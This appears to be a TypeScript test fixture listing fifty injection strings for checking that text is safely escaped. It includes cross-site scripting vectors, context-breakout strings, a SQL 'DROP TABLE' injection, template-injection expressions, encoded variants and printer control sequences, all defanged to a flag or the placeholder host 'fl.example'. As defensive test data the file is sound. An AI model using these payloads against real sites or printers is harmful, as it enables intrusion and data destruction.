/**
 * Fifty texts that would do something if a page, a paper or a printer took them for more than text. What would run sets `ran`; what would
 * fetch asks `fl.example`. The short ones fit where people write little.
 */
export const payloads: readonly string[] = [
  // Elements that run, load or lead away.
  '<script>ran=1</script>',
  '<script src=//fl.example></script>',
  '<img src=x onerror=ran=1>',
  '<IMG/SRC=x/OnErRoR=ran=1//',
  '<svg onload=ran=1>',
  '<svg><script>ran=1</script></svg>',
  '<svg><animate onbegin=ran=1>',
  '<iframe srcdoc="<script>ran=1</script>">',
  '<iframe src=javascript:ran=1>',
  '<a href=javascript:ran=1>x</a>',
  '<object data=//fl.example/x>',
  '<embed src=//fl.example/x>',
  '<base href=//fl.example/>',
  '<meta http-equiv=refresh content=0>',
  '<link rel=stylesheet href=//fl.example>',
  '<details open ontoggle=ran=1>',
  '<input autofocus onfocus=ran=1>',
  '<form action=//fl.example><button>',
  '<math><mi xlink:href=javascript:ran=1>',
  '<style>*{display:none}</style>',
  // Out of what they stand in.
  '</style><script>ran=1</script>',
  '</textarea><script>ran=1</script>',
  '</title><img src=x onerror=ran=1>',
  '--><img src=x onerror=ran=1>',
  '<!--',
  ']]><svg onload=ran=1>',
  '"><img src=x onerror=ran=1>',
  "'><img src=x onerror=ran=1>",
  '" onmouseover="ran=1',
  "' autofocus onfocus='ran=1",
  ';}*{background:url(//fl.example)}',
  "'; DROP TABLE visits; --",
  // Templates, and the page's own language.
  "{{constructor.constructor('ran=1')()}}",
  '<p v-html="ran=1" @click="ran=1">',
  '${ran=1}<%=ran=1%>#{ran=1}',
  "@:common.cancel @:{'common.cancel'}",
  '{0} {name} %s %{n}',
  'one | two | three',
  // In another spelling.
  'javascript:ran=1',
  'data:text/html,<script>ran=1</script>',
  '&lt;img src=x onerror=ran=1&gt;',
  '&#60;script&#62;ran=1',
  '%3Cscript%3Eran=1%0d%0aX:%20y',
  '\u202Egnp.exe\u2066\u200B\u200Dx',
  // What a printer obeys: the drawer, the knife, a reset, another line.
  '\x1Bp\x01\x19\x1DV\x01',
  'a\r\n\x1B@\x10\x04\x01\x0Cb',
  // Short.
  '<b>',
  '{{7}}',
  '&lt;',
  '\x1Bi',
]
